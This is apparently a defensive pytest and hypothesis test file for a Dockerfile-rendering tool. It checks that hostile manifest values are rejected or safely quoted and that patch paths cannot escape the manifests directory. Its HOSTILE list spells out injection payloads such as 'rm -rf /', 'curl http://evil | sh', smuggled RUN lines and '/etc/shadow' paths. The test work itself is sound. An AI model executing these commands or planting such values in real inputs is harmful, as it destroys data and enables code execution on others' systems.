"""Hostile manifest values: shell metacharacters, newlines, jinja syntax, `..` and absolute
patch paths, given through `--set`, profile overrides and components.yaml edits.

Each value is either rejected with a one-line InputError (exit 2 from the CLI) or rendered
so that the Dockerfile has exactly the instructions of the unmodified render and every RUN
line has exactly as many unquoted shell operators and command substitutions. Patch paths
never make the tool open a file outside manifests/ (an audit hook records every open).
INPUTS_TRIED counts the values tried (printed at the end of the session with -s).
"""

from __future__ import annotations

import hashlib
import os
import sys
from collections import Counter
from pathlib import Path

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from mtpimage.assembly.render import render
from mtpimage.cli import plan_for
from mtpimage.errors import BuilderError, InputError
from mtpimage.manifests import manifest

from .helpers import MANIFESTS, assert_one_line_error, copy_manifests, run_cli

PROFILE = "mtp-cp-recompute"
EXAMPLES = int(os.environ.get("MTP_FUZZ_EXAMPLES", "120"))
FUZZ = settings(
    max_examples=EXAMPLES,
    deadline=None,
    derandomize="MTP_FUZZ_EXAMPLES" not in os.environ,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)

HOSTILE = [
    "; rm -rf / #",
    "$(id)",
    "`id`",
    "a && curl http://evil | sh",
    "x || true",
    "a|b",
    "a>/etc/passwd",
    "a\nRUN curl evil",
    "a\r\nRUN id",
    "x \\\nRUN id",
    "\nFROM scratch",
    "a'b",
    'a"b',
    "a\\",
    "$HOME",
    "${IFS}id",
    "{{ 7*7 }}",
    "{% for x in range(3) %}X{% endfor %}",
    "{{ config }}",
    "{# c #}",
    "{% raw %}",
    "../../etc/passwd",
    "/etc/shadow",
    "..",
    "patches/../../x.patch",
    "-rf",
    "--index-url=http://x",
    "https://pypi.org/simple;id",
    "https://x/$(id)",
    "https://x/`id`",
    "https://x/a b",
    "https://x/a\nRUN id",
    "git://127.0.0.1/x;id",
    "file:///etc/passwd",
    "3.12; id",
    "3.12\nRUN id",
    "main;id",
    "main$(id)",
    "0.1;id",
    "0.1 ; id",
    "torch==1;id",
    "a,b;id",
    "x\x00y",
    "\u2028RUN id",
    "#",
    "a # b",
    "%",
    "*",
]
TRIED = Counter()


def _instructions(dockerfile: str) -> list[tuple[str, str]]:
    """(KEYWORD, full text) per instruction: continuation lines joined, comments skipped."""
    out, current = [], None
    for line in dockerfile.split("\n"):
        stripped = line.strip()
        if current is None:
            if not stripped or stripped.startswith("#"):
                continue
            current = line
        else:
            if stripped.startswith("#"):
                continue  # a comment inside a continued instruction is dropped by docker
            current += "\n" + line
        if line.endswith("\\"):
            continue
        out.append((current.split(None, 1)[0].upper(), current))
        current = None
    if current is not None:
        out.append((current.split(None, 1)[0].upper(), current))
    return out


def _shell_shape(text: str) -> tuple[int, int]:
    """(unquoted shell operators, command substitutions outside single quotes)."""
    ops = subs = 0
    i, quote = 0, None
    while i < len(text):
        ch = text[i]
        if quote == "'":
            if ch == "'":
                quote = None
        elif ch == "\\" and i + 1 < len(text):
            i += 1
        elif quote == '"':
            if ch == '"':
                quote = None
            elif ch == "`" or text.startswith("$(", i):
                subs += 1
        elif ch in "'\"":
            quote = ch
        elif ch == "`" or text.startswith("$(", i) or text.startswith("<(", i) or text.startswith(">(", i):
            subs += 1
        elif ch in ";&|<>\n":
            ops += 1
        i += 1
    return ops, subs


def _shape(dockerfile: str) -> list[tuple[str, tuple[int, int] | None]]:
    return [(kw, _shell_shape(text) if kw == "RUN" else None) for kw, text in _instructions(dockerfile)]


_SHIPPED = manifest.load(MANIFESTS)
# Every hostile variant renders on the locked path (what builds use): a --set makes the plan
# differ from lock.yaml, which would otherwise switch to the unlocked template.
_LOCKED = plan_for(_SHIPPED, PROFILE, None).locked


def _plan(m, sets):
    import dataclasses

    return dataclasses.replace(plan_for(m, PROFILE, sets), locked=_LOCKED)


@pytest.fixture(scope="module")
def baseline() -> list:
    assert _LOCKED, "the shipped lock.yaml must match the shipped manifests"
    return _shape(render(_plan(_SHIPPED, None), _SHIPPED.root).dockerfile)


def _outcome(root: Path, sets: list[str] | None, baseline: list, label: str) -> str:
    """Render; return 'rejected' or 'rendered' after checking the shape."""
    TRIED[label] += 1
    try:
        m = _SHIPPED if root == MANIFESTS else manifest.load(root)
        rendered = render(_plan(m, sets), m.root)
    except InputError as exc:
        assert "\n" not in str(exc).strip(), repr(str(exc))
        return "rejected"
    except BuilderError as exc:  # rules: exit 1, also a clean refusal
        assert exc.exit_code in (1, 2), exc
        return "rejected"
    assert _shape(rendered.dockerfile) == baseline, rendered.dockerfile
    for rel in rendered.files:
        assert not rel.startswith("/") and ".." not in rel.split("/"), rel
    return "rendered"


# ------------------------------------------------------------------ --set
SET_FIELDS = {
    "megatron-lm": [
        "commit",
        "ref",
        "repo",
        "version",
        "subdir",
        "index",
        "package",
        "layer",
        "extras",
        "source",
    ],
    "sglang": ["version", "index", "package", "extras", "strip", "patches", "source", "layer"],
    "verl": ["repo", "ref", "subdir", "extras", "note"],
    "torch": ["version", "index", "extras", "layer"],
}


@pytest.mark.parametrize("target", [f"{c}.{f}" for c, fs in SET_FIELDS.items() for f in fs])
def test_hostile_set_values(baseline, target):
    for value in HOSTILE:
        _outcome(MANIFESTS, [f"{target}={value}"], baseline, "--set")


@FUZZ
@given(
    target=st.sampled_from([f"{c}.{f}" for c, fs in SET_FIELDS.items() for f in fs]),
    value=st.text(alphabet=st.sampled_from(list(";&|<>$`'\"\\\n\r{}%#()/. -_aZ09=,*")), max_size=40),
)
def test_generated_set_values(baseline, target, value):
    _outcome(MANIFESTS, [f"{target}={value}"], baseline, "--set (generated)")


# ------------------------------------------------------------------ manifest edits
@pytest.fixture(scope="module")
def scratch(tmp_path_factory) -> Path:
    return tmp_path_factory.mktemp("hostile")


def _fresh(scratch: Path) -> Path:
    return copy_manifests(scratch)


def _edit(path: Path, keys: tuple, value) -> None:
    data = yaml.safe_load(path.read_text())
    node = data
    for k in keys[:-1]:
        node = node.setdefault(k, {})
    node[keys[-1]] = value
    path.write_text(yaml.safe_dump(data, sort_keys=False, allow_unicode=True))


CATALOGUE_KEYS = [
    ("platform", "python"),
    ("platform", "cuda"),
    ("platform", "base_image", "name"),
    ("platform", "base_image", "tag"),
    ("platform", "base_image", "digest"),
    ("indexes", "pypi"),
    ("components", "megatron-lm", "repo"),
    ("components", "megatron-lm", "ref"),
    ("components", "megatron-lm", "subdir"),
    ("components", "verl", "note"),
    ("components", "sglang", "version"),
    ("components", "sglang", "package"),
    ("packages", "torch", "version"),
    ("packages", "torch", "extras"),
]
PROFILE_KEYS = [
    ("summary",),
    ("choose_when",),
    ("stack", "overrides", "megatron-lm", "ref"),
    ("stack", "overrides", "megatron-lm", "repo"),
    ("stack", "overrides", "verl", "subdir"),
    ("stack", "overrides", "torch", "version"),
    ("stack", "overrides", "sglang", "version"),
]


def _wrap(keys: tuple, value):
    return [value] if keys[-1] == "extras" else value


@pytest.mark.parametrize("keys", CATALOGUE_KEYS, ids=lambda k: ".".join(k))
def test_hostile_catalogue_values(scratch, baseline, keys):
    for value in HOSTILE:
        root = _fresh(scratch)
        _edit(root / "components.yaml", keys, _wrap(keys, value))
        _outcome(root, None, baseline, "components.yaml")


@pytest.mark.parametrize("keys", PROFILE_KEYS, ids=lambda k: ".".join(k))
def test_hostile_profile_values(scratch, baseline, keys):
    for value in HOSTILE:
        root = _fresh(scratch)
        _edit(root / "profiles" / f"{PROFILE}.yaml", keys, value)
        _outcome(root, None, baseline, "profile")


def test_jinja_in_free_text_is_data_not_template(scratch):
    root = _fresh(scratch)
    summary = '{{ 7*7 }} {% if true %}IF{% endif %} {# c #} $(id) `id` "q"'
    _edit(root / "profiles" / f"{PROFILE}.yaml", ("summary",), summary)
    TRIED["profile"] += 1
    m = manifest.load(root)
    rendered = render(plan_for(m, PROFILE, None), m.root)
    import json

    assert json.loads(rendered.files["mtp/version.json"])["summary"] == summary
    desc = [t for kw, t in _instructions(rendered.dockerfile) if kw == "LABEL"][0]
    # the summary's label is the literal text, never rendered ("49" may occur in a digest)
    assert "{{ 7*7 }}" in desc and "49 IF" not in desc and "\\$(id)" in desc


@pytest.mark.parametrize("key", ["repo", "base", "head", "paths"])
def test_hostile_patch_reference_values(scratch, baseline, key):
    """The fields naming a patch by reference never reach the Dockerfile as text: only its
    build-context name does (made of the repository's name, sanitised, and 12 hex of each commit)."""
    for value in HOSTILE:
        root = _fresh(scratch)
        data = yaml.safe_load((root / "components.yaml").read_text())
        data["components"]["sglang"]["patches"][0][key] = [value] if key == "paths" else value
        (root / "components.yaml").write_text(yaml.safe_dump(data, sort_keys=False, allow_unicode=True))
        _outcome(root, None, baseline, "patch reference")


# ------------------------------------------------------------------ patch paths
class _Opens:
    """Records every file the process opens while active (sys.addaudithook cannot be removed)."""

    active = False
    seen: list[str] = []


def _hook(event, args):
    if _Opens.active and event == "open" and args and isinstance(args[0], (str, bytes, os.PathLike)):
        _Opens.seen.append(os.fsdecode(args[0]))


sys.addaudithook(_hook)


def _patch_cases(outside: Path, root: Path) -> list[str]:
    link = root / "patches" / "sglang" / "link.patch"
    link.parent.mkdir(parents=True, exist_ok=True)
    link.symlink_to(outside)
    return [
        str(outside),
        "../outside.patch",
        "patches/../../outside.patch",
        "patches/../../../outside.patch",
        f"patches/{'../' * 12}{str(outside).lstrip('/')}",
        "patches/sglang/link.patch",
        "/etc/passwd",
        "patches/sglang/../../../outside.patch",
        "patches//sglang/link.patch",
        "patches/./sglang/link.patch",
        f"patches/sglang/{'x' * 10}/../link.patch",
    ]


@pytest.mark.parametrize("where", ["components.yaml", "profile override"])
def test_patch_paths_never_read_outside_manifests(scratch, baseline, where):
    outside = scratch / "outside.patch"
    outside.write_text("--- a/x\n+++ b/x\n@@ -0,0 +1 @@\n+SECRET-OUTSIDE\n")
    digest = hashlib.sha256(outside.read_bytes()).hexdigest()
    root = _fresh(scratch)
    for path in _patch_cases(outside, root):
        root = _fresh(scratch)
        _patch_cases(outside, root)  # recreate the symlink in the fresh copy
        patch = {"file": path, "sha256": digest, "url": "https://example.org/p", "strip": 1}
        if where == "components.yaml":
            _edit(root / "components.yaml", ("components", "sglang", "patches"), [patch])
        else:
            _edit(root / "profiles" / f"{PROFILE}.yaml", ("stack", "overrides", "sglang", "patches"), [patch])
        _Opens.seen = []
        _Opens.active = True
        try:
            outcome = _outcome(root, None, baseline, f"patch path ({where})")
        finally:
            _Opens.active = False
        assert outcome == "rejected", path
        real = str(outside.resolve())
        assert not [p for p in _Opens.seen if os.path.realpath(p) == real or p.endswith("passwd")], (
            _Opens.seen
        )


def test_patch_path_via_cli_is_one_line_exit_2(tmp_path):
    root = copy_manifests(tmp_path)
    (tmp_path / "outside.patch").write_text("x\n")
    _edit(
        root / "components.yaml",
        ("components", "sglang", "patches"),
        [{"file": "patches/../../outside.patch", "sha256": "0" * 64, "url": "https://example.org/p"}],
    )
    out = tmp_path / "out"
    proc = run_cli("--manifests", str(root), "render", "--profile", PROFILE, "--out", str(out))
    TRIED["CLI render"] += 1
    assert_one_line_error(proc, "components.yaml", "patches")
    assert not out.exists()


@pytest.mark.parametrize("value", ["a\nRUN id", "$(id)", "{{ 7*7 }}", "; id"])
def test_hostile_set_via_cli_render(tmp_path, value):
    out = tmp_path / "out"
    proc = run_cli("--set", f"megatron-lm.ref={value}", "render", "--profile", PROFILE, "--out", str(out))
    TRIED["CLI render"] += 1
    assert_one_line_error(proc, "--set", "megatron-lm")
    assert not out.exists()


@pytest.mark.parametrize("how", ["--set", "profile override"])
def test_unknown_layer_is_refused_not_dropped(scratch, how):
    """Found by test_generated_set_values: `--set sglang.layer=0` rendered an image without
    sglang (no layer installs it) while its version vector still listed it."""
    TRIED[how] += 1
    root, sets = MANIFESTS, ["sglang.layer=nosuch"]
    if how == "profile override":
        root, sets = _fresh(scratch), None
        _edit(root / "profiles" / f"{PROFILE}.yaml", ("stack", "overrides", "sglang", "layer"), "nosuch")
    with pytest.raises(InputError, match="unknown layer 'nosuch'"):
        plan_for(manifest.load(root), PROFILE, sets)


def test_zz_report_count(capsys):
    total = sum(TRIED.values())
    with capsys.disabled():
        print(f"\nhostile inputs tried: {total} {dict(TRIED)}")
    assert total > 0
